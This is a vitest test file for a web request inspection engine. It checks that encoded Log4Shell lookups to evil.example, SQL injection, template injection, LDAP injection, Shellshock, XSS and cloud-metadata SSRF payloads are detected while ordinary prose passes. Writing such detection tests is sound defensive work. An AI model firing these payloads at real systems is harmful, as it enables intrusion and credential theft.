import { describe, expect, it } from "vitest";
import { compileProfiles, defaultProfiles, inspectRequest } from "../../src/inspect/index.ts";
import { request } from "./helpers.ts";

const compiled = compileProfiles(defaultProfiles());

function ids(method: string, target: string, headers: [string, string][] = [], body = "") {
  return inspectRequest(compiled, request(method, target, headers, body)).detections.map(
    (d) => d.id,
  );
}

const JSON_TYPE: [string, string] = ["Content-Type", "application/json"];
const FORM_TYPE: [string, string] = ["Content-Type", "application/x-www-form-urlencoded"];

describe("Log4Shell behind layers of escaping", () => {
  it.each([
    '{"q": "%24%5Cu007Bjndi%3Aldap%3A%2F%2Fevil.example%2Fx%7D"}',
    '{"q": "$&lbrace;jndi:ldap://evil.example/x}"}',
    '{"q": "$&LBRACE;jndi:ldap://evil.example/x}"}',
    '{"q": "&#36;{jndi:ldap://evil.example/x}"}',
    '{"q": "$\\u0026lbracejndi:ldap://evil.example/x}"}',
    '{"q": "%24&lcub;\\u006A&#110;di:ldap://evil.example/x}"}',
  ])("finds the lookup in %s", (body) => {
    expect(ids("POST", "/api", [JSON_TYPE], body)).toContain("java-jndi-lookup");
  });

  it("finds a lookup whose digits are padded with zeros", () => {
    const ua = "&#x24;&#0000000000000000000123;jndi:ldap://evil.example/w}";
    expect(ids("GET", "/", [["X-Agent", ua]])).toContain("java-jndi-lookup");
  });

  it("leaves prose with escaped braces alone", () => {
    expect(ids("POST", "/api", [JSON_TYPE], '{"q": "use &lbrace; and &rbrace; for sets"}')).toEqual(
      [],
    );
  });
});

describe("SQL function names in prose", () => {
  it.each([
    "You can choose front up to maximise space (ideal for art), left up (for right handers).",
    "flying to an altitude of convert (0.46 miles) before landing",
    "the angles add up to 180 degrees (same color to point out they are equal).",
    "Bezeichnungen sind Harsle (1319) und Haßelt (1599).",
  ])("lets a sentence through: %s", (text) => {
    expect(ids("POST", "/post", [FORM_TYPE], `payload=${encodeURIComponent(text)}`)).toEqual([]);
  });

  it.each(["concat (", "' or sqlite_compileoption_used (id)--", "x' and lower (name)='a"])(
    "still reads SQL grammar: %s",
    (text) => {
      expect(ids("POST", "/post", [FORM_TYPE], `q=${encodeURIComponent(text)}`)).toEqual(
        expect.arrayContaining([expect.stringMatching(/^sqli-/)]),
      );
    },
  );
});

describe("SQL select-list tails after a break-out", () => {
  it.each([
    'var=1234 AS "foobar" FROM tablevar2',
    "` AS `edit_user_id` from",
    "pay=%60+REGEXP%20",
    "id=function(foo)::double%20precision",
  ])("reads %s as SQL", (body) => {
    expect(ids("POST", "/post", [FORM_TYPE], body)).toEqual(
      expect.arrayContaining([expect.stringMatching(/^sqli-/)]),
    );
  });

  it("leaves 'as … from' in a sentence alone", () => {
    const text = "10 as usual from now on, known as Bob from Texas";
    expect(ids("POST", "/post", [FORM_TYPE], `note=${encodeURIComponent(text)}`)).toEqual([]);
  });
});

describe("template expressions", () => {
  it.each(["{{username}}", "<%=title%>", "<%= title -%>", "#{name}"])(
    "lets the bare variable %s through",
    (value) => {
      expect(ids("GET", `/get?x=${encodeURIComponent(value)}`)).toEqual([]);
    },
  );

  it.each(["{{7*7}}", "<%=7*7%>", "<% system('id') %>", "#{runtime.exec('id')}"])(
    "flags the computing expression %s",
    (value) => {
      expect(ids("GET", `/get?x=${encodeURIComponent(value)}`)).toContain(
        "ssti-template-expression",
      );
    },
  );
});

describe("protocol checks that read context", () => {
  it("reads a balanced LDAP filter as a search and an unbalanced close as injection", () => {
    const search = "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))";
    expect(ids("POST", "/", [FORM_TYPE], `f=${encodeURIComponent(search)}`)).toEqual([]);
    expect(ids("GET", "/?user=admin)(%7C(password%3D*")).toContain("protocol-ldap-injection");
    expect(ids("GET", "/?param=val)%26(cn%3Dadmin")).toContain("protocol-ldap-injection");
  });

  it("treats \\u escapes as JSON's own in a JSON request but not in a form", () => {
    expect(ids("POST", "/", [JSON_TYPE], '{"a": "\\\\u0065val"}')).toEqual([]);
    expect(ids("POST", "/", [FORM_TYPE], "a=%5Cu0061lert")).toContain("protocol-unicode-escape");
  });

  it("accepts boundaries with the characters RFC 2046 allows", () => {
    const type = "multipart/mixed; boundary=----data:55780(123,45:667)+part";
    expect(ids("POST", "/", [["Content-Type", type]])).toEqual([]);
    expect(ids("GET", "/", [["Content-Type", "text/xml; blah"]])).toContain(
      "protocol-content-type",
    );
  });

  it("reads hex-letter host names as names and addresses as addresses", () => {
    const hostIds = (host: string) =>
      inspectRequest(compiled, {
        method: "GET",
        target: "/",
        headers: [["Host", host]],
        body: new Uint8Array(),
      }).detections.map((d) => d.id);
    expect(hostIds("deadbeef.de:8080")).not.toContain("protocol-host");
    expect(hostIds("10.0.0.1:8080")).toContain("protocol-host");
    expect(hostIds("[::1]")).toContain("protocol-host");
  });

  it("needs '() {' at the start for Shellshock and an argument for a command-named field", () => {
    expect(ids("POST", "/", [FORM_TYPE], "code=myfunction%28%29%7B+echo+hi+%7D")).toEqual([]);
    expect(ids("GET", "/", [["User-Agent", "() { :; }; /bin/id"]])).toContain("rce-shellshock");
    expect(ids("GET", "/get?cmd=hello")).toEqual([]);
  });

  it("lets a link to a web page through and still blocks a script scheme", () => {
    const link = 'var=see <a href="https://video.example/watch?v=1">';
    expect(ids("POST", "/", [FORM_TYPE], link)).toEqual([]);
    expect(ids("POST", "/", [FORM_TYPE], "var=<a href=javascript:alert(1)>")).toContain(
      "xss-markup",
    );
  });
});

describe("the breach replay's SSRF spellings stay blocked", () => {
  const spellings = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://0xa9fea9fe/latest/meta-data/iam/security-credentials/",
    "http://2852039166/latest/meta-data/iam/security-credentials/",
    "http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/",
    "http://169.254.43518/latest/meta-data/iam/security-credentials/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/iam/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/",
  ];

  it.each(spellings)("blocks %s in a query, a form and JSON", (url) => {
    const verdicts = [
      inspectRequest(compiled, request("GET", `/preview?url=${encodeURIComponent(url)}`)),
      inspectRequest(
        compiled,
        request("POST", "/preview", [FORM_TYPE], `url=${encodeURIComponent(url)}`),
      ),
      inspectRequest(compiled, request("POST", "/preview", [JSON_TYPE], JSON.stringify({ url }))),
    ];
    for (const v of verdicts) {
      expect(v.action, JSON.stringify(v.detections)).toBe("block");
      expect(v.detections.map((d) => d.category)).toContain("ssrf");
    }
  });
});
